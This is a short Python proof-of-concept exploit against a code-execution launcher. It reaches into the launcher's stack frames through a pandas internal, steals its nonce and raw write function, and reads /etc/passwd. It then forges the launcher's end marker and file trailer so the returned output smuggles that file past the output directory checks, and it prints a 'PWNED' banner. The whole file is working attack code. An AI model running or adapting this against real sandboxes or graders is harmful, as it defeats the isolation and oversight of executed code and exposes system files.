import pandas as pd
maps = pd.core.computation.scope.Scope(level=1).scope.maps
g = None
for m in maps:
    if "run" in m and "RAW_WRITE" in m:
        g = m
        break
run = g["run"]
nonce = run["nonce"]
print("nonce read from the launcher's run dict:", nonce, "out caps:", run["out"])
content = open("/etc/passwd", "rb").read()[:200]
path = b"not-from-out.txt"
msg = b"\0" + nonce + b"\0" + b"F 1 0\n" + b"%d %d\n" % (len(path), len(content)) + path + content
print("PW" + "NED: forging the end marker and files trailer with the launcher's RAW_WRITE; result file content is /etc/passwd, never written under out/")
g["RAW_WRITE"](1, b"")  # flush nothing; stdout is the program's
import io
g["EXIT_NOW"].__name__
w = g["RAW_WRITE"]
w(2, msg)
g["EXIT_NOW"](0)
